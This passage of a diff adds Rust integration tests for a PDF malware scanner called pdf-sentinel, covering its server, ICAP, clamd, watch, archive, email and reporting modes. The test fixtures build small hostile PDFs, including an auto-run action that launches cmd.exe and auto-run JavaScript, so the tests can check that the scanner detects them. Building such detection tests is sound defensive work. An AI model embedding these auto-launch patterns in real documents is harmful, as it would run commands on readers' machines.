+/// body of the response.
+#[cfg(feature = "server")]
+fn http_request(address: &str, head: &str, body: &[u8]) -> (u16, String) {
+    use std::io::Read;
+
+    let mut stream = std::net::TcpStream::connect(address).unwrap();
+    stream
+        .write_all(format!("{}\r\nContent-Length: {}\r\n\r\n", head, body.len()).as_bytes())
+        .unwrap();
+    stream.write_all(body).unwrap();
+    let mut response = String::new();
+    stream.read_to_string(&mut response).unwrap();
+    let status = response[9..12].parse().unwrap();
+    let body = response.split_once("\r\n\r\n").unwrap().1.to_string();
+    (status, body)
+}
+
+#[cfg(feature = "server")]
+#[test]
+fn server_scans_uploads_and_counts_them() {
+    let address = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .to_string();
+    let mut server = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--serve", &address])
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    let started = std::time::Instant::now();
+    while std::net::TcpStream::connect(&address).is_err() {
+        assert!(started.elapsed().as_secs() < 10, "server did not start");
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+
+    let health = http_request(&address, "GET /healthz HTTP/1.0", b"");
+    let raw = http_request(&address, "POST /scan HTTP/1.0", &clean_pdf());
+    let mut multipart = b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; \
+                          filename=\"memo.pdf\"\r\nContent-Type: application/pdf\r\n\r\n"
+        .to_vec();
+    multipart.extend(clean_pdf());
+    multipart.extend(b"\r\n--XyZ--\r\n");
+    let upload = http_request(
+        &address,
+        "POST /scan HTTP/1.0\r\nContent-Type: multipart/form-data; boundary=XyZ",
+        &multipart,
+    );
+    let garbage = http_request(&address, "POST /scan HTTP/1.0", b"not a PDF");
+    let metrics = http_request(&address, "GET /metrics HTTP/1.0", b"");
+    server.kill().unwrap();
+    server.wait().unwrap();
+
+    assert_eq!(health.0, 200);
+    assert_eq!(raw.0, 200);
+    let record: Value = serde_json::from_str(&raw.1).unwrap();
+    assert_eq!(record["file"], "-");
+    assert_eq!(record["classification"], "Clean");
+    assert_eq!(upload.0, 200, "{}", upload.1);
+    let record: Value = serde_json::from_str(&upload.1).unwrap();
+    assert_eq!(record["file"], "memo.pdf");
+    assert_eq!(garbage.0, 422);
+    assert_eq!(metrics.0, 200);
+    assert!(metrics
+        .1
+        .contains("pdf_sentinel_scans_total{classification=\"clean\"} 2"));
+    assert!(metrics.1.contains("pdf_sentinel_scan_failures_total 1"));
+}
+
+/// Sends a RESPMOD request for a download of `body` with `content_type`, and
+/// returns the whole ICAP response.
+fn icap_respmod(address: &str, content_type: &str, body: &[u8]) -> String {
+    use std::io::Read;
+
+    let http_request = "GET /download HTTP/1.1\r\nHost: example.com\r\n\r\n";
+    let http_response = format!("HTTP/1.1 200 OK\r\nContent-Type: {}\r\n\r\n", content_type);
+    let mut request = format!(
+        "RESPMOD icap://{}/respmod ICAP/1.0\r\nHost: {}\r\nAllow: 204\r\n\
+         Connection: close\r\nEncapsulated: req-hdr=0, res-hdr={}, res-body={}\r\n\r\n{}{}",
+        address,
+        address,
+        http_request.len(),
+        http_request.len() + http_response.len(),
+        http_request,
+        http_response
+    )
+    .into_bytes();
+    request.extend(format!("{:x}\r\n", body.len()).as_bytes());
+    request.extend(body);
+    request.extend(b"\r\n0\r\n\r\n");
+
+    let mut stream = std::net::TcpStream::connect(address).unwrap();
+    stream.write_all(&request).unwrap();
+    let mut response = String::new();
+    stream.read_to_string(&mut response).unwrap();
+    response
+}
+
+#[test]
+fn icap_blocks_malicious_downloads_and_passes_the_rest() {
+    let address = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .to_string();
+    let mut server = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--icap", &address])
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    let started = std::time::Instant::now();
+    while std::net::TcpStream::connect(&address).is_err() {
+        assert!(started.elapsed().as_secs() < 10, "service did not start");
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    let malicious = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Type /Action /S /Launch /F (cmd.exe) >>",
+        ],
+        "/Root 1 0 R",
+    );
+
+    let blocked = icap_respmod(&address, "application/pdf", &malicious);
+    let clean = icap_respmod(&address, "application/pdf", &clean_pdf());
+    let image = icap_respmod(&address, "image/png", b"\x89PNG\r\n");
+    let mut oversized = std::net::TcpStream::connect(&address).unwrap();
+    write!(
+        oversized,
+        "RESPMOD icap://{}/respmod ICAP/1.0\r\nHost: {}\r\n\
+         Encapsulated: req-hdr=0, null-body=1000000000000\r\n\r\n",
+        address, address
+    )
+    .unwrap();
+    let mut rejected = String::new();
+    std::io::Read::read_to_string(&mut oversized, &mut rejected).unwrap();
+    let mut crowded = std::net::TcpStream::connect(&address).unwrap();
+    write!(
+        crowded,
+        "OPTIONS icap://{}/respmod ICAP/1.0\r\n{}\r\n",
+        address,
+        "X-Padding: x\r\n".repeat(101)
+    )
+    .unwrap();
+    let mut too_many_headers = String::new();
+    std::io::Read::read_to_string(&mut crowded, &mut too_many_headers).unwrap();
+    server.kill().unwrap();
+    server.wait().unwrap();
+
+    assert!(blocked.starts_with("ICAP/1.0 200 OK\r\n"), "{}", blocked);
+    assert!(blocked.contains("X-Infection-Found: "), "{}", blocked);
+    assert!(blocked.contains("HTTP/1.1 403 Forbidden"), "{}", blocked);
+    assert!(clean.starts_with("ICAP/1.0 204 "), "{}", clean);
+    assert!(image.starts_with("ICAP/1.0 204 "), "{}", image);
+    assert!(rejected.starts_with("ICAP/1.0 400 "), "{}", rejected);
+    assert!(
+        too_many_headers.starts_with("ICAP/1.0 400 "),
+        "{}",
+        too_many_headers
+    );
+}
+
+/// Sends one clamd command, with `stream` as INSTREAM chunks when given,
+/// and returns the reply.
+fn clamd_command(address: &str, command: &str, stream: Option<&[u8]>) -> String {
+    use std::io::Read;
+
+    let mut connection = std::net::TcpStream::connect(address).unwrap();
+    connection.write_all(command.as_bytes()).unwrap();
+    if let Some(data) = stream {
+        for chunk in data.chunks(100) {
+            connection
+                .write_all(&(chunk.len() as u32).to_be_bytes())
+                .unwrap();
+            connection.write_all(chunk).unwrap();
+        }
+        connection.write_all(&[0; 4]).unwrap();
+    }
+    let mut reply = String::new();
+    connection.read_to_string(&mut reply).unwrap();
+    reply
+}
+
+#[test]
+fn clamd_protocol_reports_found_for_malicious_pdfs() {
+    let address = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .to_string();
+    let mut server = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--clamd", &address])
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    let started = std::time::Instant::now();
+    while std::net::TcpStream::connect(&address).is_err() {
+        assert!(started.elapsed().as_secs() < 10, "service did not start");
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    let malicious = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Type /Action /S /Launch /F (cmd.exe) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let dir = std::env::temp_dir().join(format!("pdf-sentinel-clamd-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join("attachment.pdf"), &malicious).unwrap();
+
+    let pong = clamd_command(&address, "zPING\0", None);
+    let found = clamd_command(&address, "zINSTREAM\0", Some(&malicious));
+    let clean = clamd_command(&address, "nINSTREAM\n", Some(&clean_pdf()));
+    let scan = clamd_command(&address, &format!("nCONTSCAN {}\n", dir.display()), None);
+    let overlong = clamd_command(&address, &format!("n{}", "A".repeat(8191)), None);
+    server.kill().unwrap();
+    server.wait().unwrap();
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    assert_eq!(pong, "PONG\0");
+    assert!(found.starts_with("stream: PdfSentinel."), "{}", found);
+    assert!(found.ends_with(" FOUND\0"), "{}", found);
+    assert_eq!(clean, "stream: OK\n");
+    assert!(scan.contains("attachment.pdf: PdfSentinel."), "{}", scan);
+    assert_eq!(overlong, "Command too long. ERROR\n");
+}
+
+#[test]
+fn watch_analyzes_pdfs_dropped_into_the_directory() {
+    use std::io::BufRead;
+    use std::time::{Duration, Instant};
+
+    let dir = std::env::temp_dir().join(format!("pdf-sentinel-watch-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let mut watcher = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--watch", dir.to_str().unwrap(), "--format", "ndjson"])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    let (tx, rx) = std::sync::mpsc::channel();
+    let stdout = watcher.stdout.take().unwrap();
+    std::thread::spawn(move || {
+        // Results, past the schema line NDJSON output starts with
+        let results = std::io::BufReader::new(stdout)
+            .lines()
+            .map(Result::unwrap)
+            .filter(|line| line.contains("\"file\":"));
+        for line in results {
+            if tx.send(line).is_err() {
+                break;
+            }
+        }
+    });
+
+    // The watcher may not be subscribed yet when the first file lands, so
+    // files keep arriving until one is reported or time runs out
+    let started = Instant::now();
+    let mut record = None;
+    for attempt in 0.. {
+        if started.elapsed() > Duration::from_secs(20) {
+            break;
+        }
+        std::fs::write(dir.join(format!("drop-{}.pdf", attempt)), clean_pdf()).unwrap();
+        if let Ok(line) = rx.recv_timeout(Duration::from_secs(1)) {
+            record = Some(line);
+            break;
+        }
+    }
+    watcher.kill().unwrap();
+    watcher.wait().unwrap();
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    let record: Value = serde_json::from_str(&record.expect("no PDF was analyzed")).unwrap();
+    assert!(
+        record["file"].as_str().unwrap().contains("drop-"),
+        "{}",
+        record
+    );
+    assert_eq!(record["classification"], "Clean");
+}
+
+/// A ZIP archive holding `entries` uncompressed.
+fn stored_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
+    let crc32 = |data: &[u8]| {
+        let mut crc = !0u32;
+        for &byte in data {
+            crc ^= u32::from(byte);
+            for _ in 0..8 {
+                crc = (crc >> 1) ^ (0xedb8_8320 & (crc & 1).wrapping_neg());
+            }
+        }
+        !crc
+    };
+    let mut zip = Vec::new();
+    let mut directory = Vec::new();
+    for (name, data) in entries {
+        // Version, flags, method, time, date; then CRC and sizes
+        let mut fields = [20u16, 0, 0, 0, 0]
+            .iter()
+            .flat_map(|field| field.to_le_bytes())
+            .collect::<Vec<u8>>();
+        fields.extend(crc32(data).to_le_bytes());
+        fields.extend((data.len() as u32).to_le_bytes());
+        fields.extend((data.len() as u32).to_le_bytes());
+        fields.extend((name.len() as u16).to_le_bytes());
+        fields.extend(0u16.to_le_bytes());
+
+        directory.extend(b"PK\x01\x02\x14\x00");
+        directory.extend(&fields);
+        // Comment length, disk, attributes, then the local header's offset
+        directory.extend([0; 10]);
+        directory.extend((zip.len() as u32).to_le_bytes());
+        directory.extend(name.as_bytes());
+
+        zip.extend(b"PK\x03\x04");
+        zip.extend(&fields);
+        zip.extend(name.as_bytes());
+        zip.extend(*data);
+    }
+    let offset = zip.len() as u32;
+    zip.extend(&directory);
+    zip.extend(b"PK\x05\x06\0\0\0\0");
+    zip.extend((entries.len() as u16).to_le_bytes());
+    zip.extend((entries.len() as u16).to_le_bytes());
+    zip.extend((directory.len() as u32).to_le_bytes());
+    zip.extend(offset.to_le_bytes());
+    zip.extend([0; 2]);
+    zip
+}
+
+#[test]
+fn pdfs_in_nested_zip_archives_are_analyzed() {
+    let malicious = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let inner = stored_zip(&[
+        ("readme.txt", b"open the invoice"),
+        ("invoice.pdf", &malicious),
+    ]);
+    let outer = stored_zip(&[("docs/inner.zip", &inner), ("scan", &clean_pdf())]);
+
+    let mut child = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--ndjson", "-"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    child.stdin.take().unwrap().write_all(&outer).unwrap();
+    let output = child.wait_with_output().unwrap();
+    let records: Vec<Value> = String::from_utf8(output.stdout)
+        .unwrap()
+        .lines()
+        .map(|line| serde_json::from_str(line).expect("line is not JSON"))
+        .collect();
+
+    assert_eq!(records.len(), 3, "{:?}", records);
+    assert_eq!(records[1]["file"], "-:docs/inner.zip:invoice.pdf");
+    assert_eq!(records[1]["has_javascript"], true);
+    assert_eq!(records[2]["file"], "-:scan");
+    assert_eq!(records[2]["classification"], "Clean");
+}
+
+/// Base64 wrapped at 76 columns, as mail bodies are.
+fn base64(data: &[u8]) -> String {
+    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for line in data.chunks(57) {
+        for chunk in line.chunks(3) {
+            let mut group = [0; 4];
+            group[1..=chunk.len()].copy_from_slice(chunk);
+            let group = u32::from_be_bytes(group);
+            for index in 0..=chunk.len() {
+                out.push(ALPHABET[(group >> (18 - 6 * index) & 63) as usize] as char);
+            }
+            for _ in chunk.len()..3 {
+                out.push('=');
+            }
+        }
+        out.push_str("\r\n");
+    }
+    out
+}
+
+#[test]
+fn email_attachments_are_found_in_forwarded_messages() {
+    let malicious = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let forwarded = format!(
+        "From: a@example.com\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n\
+         Content-Type: multipart/mixed; boundary=\"inner\"\r\n\r\n\
+         --inner\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n\
+         --inner\r\nContent-Type: application/pdf\r\n\
+         Content-Disposition: attachment;\r\n filename=\"=?utf-8?B?aW52b2ljZS5wZGY=?=\"\r\n\
+         Content-ID: <inv@example.com>\r\nContent-Transfer-Encoding: base64\r\n\r\n\
+         {}\r\n--inner--\r\n",
+        base64(&malicious)
+    );
+    let message = format!(
+        "From: b@example.com\r\nSubject: Fwd: invoice\r\nMIME-Version: 1.0\r\n\
+         Content-Type: multipart/mixed; boundary=outer\r\n\r\n\
+         --outer\r\nContent-Type: text/plain\r\n\
+         Content-Transfer-Encoding: quoted-printable\r\n\r\nFor you=3D\r\n\
+         --outer\r\nContent-Type: message/rfc822\r\n\r\n{}\r\n\
+         --outer\r\nContent-Type: application/octet-stream\r\n\
+         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--outer--\r\n",
+        forwarded,
+        base64(&clean_pdf())
+    );
+
+    let mut child = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--ndjson", "--eml", "-"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(message.as_bytes())
+        .unwrap();
+    let output = child.wait_with_output().unwrap();
+    let records: Vec<Value> = String::from_utf8(output.stdout)
+        .unwrap()
+        .lines()
+        .map(|line| serde_json::from_str(line).expect("line is not JSON"))
+        .collect();
+
+    assert_eq!(records.len(), 3, "{:?}", records);
+    assert_eq!(records[1]["file"], "-:invoice.pdf <inv@example.com>");
+    assert_ne!(records[1]["classification"], "Clean");
+    assert_eq!(records[2]["file"], "-:attachment 2");
+    assert_eq!(records[2]["classification"], "Clean");
+}
+
+#[cfg(feature = "fetch")]
+#[test]
+fn urls_are_fetched_and_analyzed() {
+    use std::io::{BufRead, BufReader};
+
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}/report.pdf", listener.local_addr().unwrap());
+    let server = std::thread::spawn(move || {
+        let (stream, _) = listener.accept().unwrap();
+        let mut reader = BufReader::new(stream);
+        let mut line = String::new();
+        while reader.read_line(&mut line).unwrap() > 2 {
+            line.clear();
+        }
+        let pdf = clean_pdf();
+        let head = format!(
+            "HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\nContent-Length: {}\r\n\r\n",
+            pdf.len()
+        );
+        let stream = reader.get_mut();
+        stream.write_all(head.as_bytes()).unwrap();
+        stream.write_all(&pdf).unwrap();
+    });
+
+    let output = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--json", &url])
+        .output()
+        .expect("failed to start pdf-sentinel");
+    server.join().unwrap();
+
+    assert!(output.status.success());
+    let result: Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(result["file"], url.as_str());
+    assert_eq!(result["classification"], "Clean");
+}
+
+#[test]
+fn html_report_highlights_scripts_and_dumps_their_streams() {
+    let script = "var x = \"a<b\"; // note";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+            "<< /Type /Action /S /JavaScript /JS 5 0 R >>",
+            &format!(
+                "<< /Length {} >>\nstream\n{}\nendstream",
+                script.len(),
+                script
+            ),
+        ],
+        "/Root 1 0 R",
+    );
+    let mut child = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--format", "html", "-"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    child.stdin.take().unwrap().write_all(&pdf).unwrap();
+    let output = child.wait_with_output().unwrap();
+
+    assert_eq!(output.status.code(), Some(2));
+    let html = String::from_utf8(output.stdout).unwrap();
+    assert!(html.starts_with("<!DOCTYPE html>"));
+    assert!(html.contains("<span class=\"verdict malicious\">"));
+    assert!(html.contains("<td>PS002</td>"));
+    assert!(html.contains("<span class=\"kw\">var</span>"));
+    assert!(html.contains("<span class=\"str\">&quot;a&lt;b&quot;</span>"));
+    assert!(html.contains("<span class=\"com\">// note</span>"));
+    assert!(html.contains("<summary>Object 5: JavaScript in object 5"));
+    assert!(!html.contains("<script"));
+}
+
+fn exit_code(args: &[&str], pdf: &[u8]) -> Option<i32> {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(args)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    child.stdin.take().unwrap().write_all(pdf).unwrap();
+    child.wait().unwrap().code()
+}
+
+#[test]
+fn exit_code_follows_the_verdict() {
+    let malicious = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+            "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    assert_eq!(exit_code(&["-"], &clean_pdf()), Some(0));
+    assert_eq!(exit_code(&["-"], &malicious), Some(2));
+    assert_eq!(exit_code(&["-"], b"not a PDF"), Some(3));
+    assert_eq!(
+        exit_code(&["--fail-on", "bogus", "-"], &clean_pdf()),
+        Some(4)
+    );
+
+    let config =
+        std::env::temp_dir().join(format!("pdf-sentinel-exit-{}.toml", std::process::id()));
+    std::fs::write(&config, "[exit_codes]\nsuspicious = \"Low\"\n").unwrap();
+    let config = config.to_str().unwrap();
+    let suspicious = exit_code(&["--config", config, "-"], &clean_pdf());
+    let passed = exit_code(
+        &["--config", config, "--fail-on", "medium", "-"],
+        &clean_pdf(),
+    );
+    std::fs::remove_file(config).unwrap();
+
+    assert_eq!(suspicious, Some(1));
+    assert_eq!(passed, Some(0));
+}
+
+#[test]
+fn baselined_files_are_clean_without_analysis() {
+    let dir = std::env::temp_dir().join(format!("pdf-sentinel-baseline-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let malicious = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /JavaScript /JS (app.alert\\(1\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    std::fs::write(dir.join("template.pdf"), clean_pdf()).unwrap();
+    std::fs::write(dir.join("dropper.pdf"), &malicious).unwrap();
+    let database = dir.join("baseline.toml");
+    let database = database.to_str().unwrap();
+    let added = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["baseline", "add", "--baseline", database])
+        .arg(dir.join("template.pdf"))
+        .arg(dir.join("dropper.pdf"))
+        .output()
+        .unwrap();
+    let baselined = run_on_stdin(&["--json", "--baseline", database, "-"], &clean_pdf());
+    let analyzed = run_on_stdin(&["--json", "--baseline", database, "-"], &malicious);
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    assert_eq!(added.status.code(), Some(1));
+    let entry = &baselined["baselined"];
+    assert_eq!(entry["name"], "template.pdf", "{:#}", baselined);
+    assert_eq!(entry["producer"], "GPL Ghostscript 10.02.1");
+    assert_eq!(entry["sha256"], baselined["sha256"]);
+    assert_eq!(baselined["classification"], "Clean");
+    assert_eq!(baselined["object_statistics"]["total_objects"], 0);
+    assert!(analyzed["baselined"].is_null());
+    assert!(analyzed["classification"]["ConfirmedMalicious"].is_array());
+}
+
+#[test]
+fn dump_graph_writes_the_reference_graph_as_dot() {
+    let path = std::env::temp_dir().join(format!("pdf-sentinel-graph-{}.dot", std::process::id()));
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /JavaScript /JS (app.alert\\(1\\);) /Next 9 0 R >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let outfile = path.to_str().unwrap();
+    run_on_stdin(&["--json", "--dump-graph", outfile, "-"], &pdf);
+    let dot = std::fs::read_to_string(&path).unwrap();
+    std::fs::remove_file(&path).unwrap();
+
+    assert!(dot.starts_with("digraph pdf {"), "{}", dot);
+    assert!(dot.contains("1 -> 2 [label=\"Pages\"];"));
+    assert!(dot.contains("1 -> 3 [label=\"OpenAction\"];"));
+    assert!(dot.contains("2 [label=\"2 0 R\\n/Pages\", fillcolor=palegreen];"));
+    assert!(dot.contains("3 [label=\"3 0 R\\n/JavaScript\", fillcolor=orange];"));
+    assert!(dot.contains("9 [label=\"9 0 R\\nmissing\", style=dashed];"));
+}
+
+#[test]
+fn inspect_answers_commands_about_the_objects() {
+    let path = std::env::temp_dir().join(format!("pdf-sentinel-inspect-{}", std::process::id()));
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /JavaScript /JS (app.alert\\(1\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    std::fs::write(&path, &pdf).unwrap();
+    let mut child = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .arg("inspect")
+        .arg(&path)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    let commands = b"objects\nsearch app.alert\nrefby 3\nfollow 1 OpenAction\nobject 7\nquit\n";
+    child.stdin.take().unwrap().write_all(commands).unwrap();
+    let output = child.wait_with_output().unwrap();
+    std::fs::remove_file(&path).unwrap();
+    let stdout = String::from_utf8(output.stdout).unwrap();
+
+    assert!(output.status.success(), "{}", output.status);
+    assert!(stdout.contains("/Catalog"), "{}", stdout);
+    assert!(stdout.contains("object 3: in a string or name"));
+    assert!(stdout.contains("1 0 R /OpenAction"));
+    assert!(stdout.contains("/JS (app.alert\\(1\\);)"));
+    assert!(stdout.contains("error: no object 7"));
+}
+
+#[test]
+fn extract_writes_an_object_as_stored_or_decoded() {
+    let dir = std::env::temp_dir().join(format!("pdf-sentinel-extract-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Filter /AHx /Length 13 >>\nstream\n48656c6c6f21>\nendstream",
+        ],
+        "/Root 1 0 R",
+    );
+    let input = dir.join("input.pdf");
+    std::fs::write(&input, &pdf).unwrap();
+    let extract = |args: &[&str]| {
+        let output = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+            .arg("extract")
+            .arg(&input)
+            .args(args)
+            .output()
+            .unwrap();
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert!(output.status.success(), "{}", stderr);
+        output
+    };
+
+    let outfile = dir.join("obj3.bin");
+    let path = outfile.to_str().unwrap();
+    extract(&["--object", "3", "--decoded", "-o", path]);
+    assert_eq!(std::fs::read(&outfile).unwrap(), b"Hello!");
+    let stored = extract(&["--object", "3"]);
+    assert_eq!(stored.stdout, b"48656c6c6f21>");
+    assert!(String::from_utf8_lossy(&stored.stderr).contains("/Filter /AHx"));
+    let catalog = extract(&["--object", "1"]);
+    assert!(String::from_utf8_lossy(&catalog.stdout).contains("/Pages 2 0 R"));
+    std::fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn pdfid_counts_keywords_in_pdfid_format() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /JavaScript /J#53 (app.alert\\(1\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let mut child = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--pdfid", "-"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    child.stdin.take().unwrap().write_all(&pdf).unwrap();
+    let output = child.wait_with_output().unwrap();
+    let stdout = String::from_utf8(output.stdout).unwrap();
+
+    assert!(stdout.starts_with("PDFiD 0.2.8 -\n"), "{}", stdout);
+    assert!(stdout.contains("\n PDF Header: %PDF-1.7\n"));
+    assert!(stdout.contains("\n obj                    3\n"));
+    assert!(stdout.contains("\n trailer                1\n"));
+    // /Pages is not /Page
+    assert!(stdout.contains("\n /Page                  0\n"));
+    assert!(stdout.contains("\n /JS                    1(1)\n"));
+    assert!(stdout.contains("\n /JavaScript            1\n"));
+    assert!(stdout.contains("\n /OpenAction            1\n"));
+    assert!(stdout.ends_with("\n /Colors > 2^24         0\n"));
+}
+
+#[test]
+fn diff_shows_the_active_content_a_sanitized_copy_dropped() {
+    let dir = std::env::temp_dir().join(format!("pdf-sentinel-diff-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let original = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /JavaScript /JS (app.alert\\(1\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let sanitized = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+        ],
+        "/Root 1 0 R",
+    );
+    std::fs::write(dir.join("original.pdf"), &original).unwrap();
+    std::fs::write(dir.join("sanitized.pdf"), &sanitized).unwrap();
+    let output = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(["--json", "diff"])
+        .arg(dir.join("original.pdf"))
+        .arg(dir.join("sanitized.pdf"))
+        .output()
+        .unwrap();
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    let diff: Value = serde_json::from_slice(&output.stdout).expect("output is not JSON");
+    assert!(diff["severity_delta"].as_i64().unwrap() < 0, "{:#}", diff);
+    let javascript = diff["score_changes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|change| change["weight"] == "javascript")
+        .unwrap();
+    assert_eq!(javascript["after"], 0);
+    let objects = &diff["objects"];
+    assert_eq!(objects["removed_objects"], serde_json::json!([3]));
+    assert_eq!(objects["modified_objects"], serde_json::json!([1]));
+    assert_eq!(objects["added_objects"], serde_json::json!([]));
+    let removed = serde_json::json!([{"object_id": 3, "action": "JavaScript"}]);
+    assert_eq!(objects["removed_actions"], removed);
+    assert_eq!(objects["new_actions"], serde_json::json!([]));
+}
+
+#[test]
+fn cached_results_are_reused_until_the_config_changes() {
+    let dir = std::env::temp_dir().join(format!("pdf-sentinel-cache-{}", std::process::id()));
+    let cache = dir.join("cache");
+    let cache_arg = cache.to_str().unwrap();
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /JavaScript /JS (app.alert\\(1\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let first = run_on_stdin(&["--json", "--cache", cache_arg, "-"], &pdf);
+    let sha256 = first["sha256"].as_str().unwrap();
+    let fingerprint = std::fs::read_dir(&cache).unwrap().next().unwrap().unwrap();
+    let cached = fingerprint.path().join(format!("{}.json", sha256));
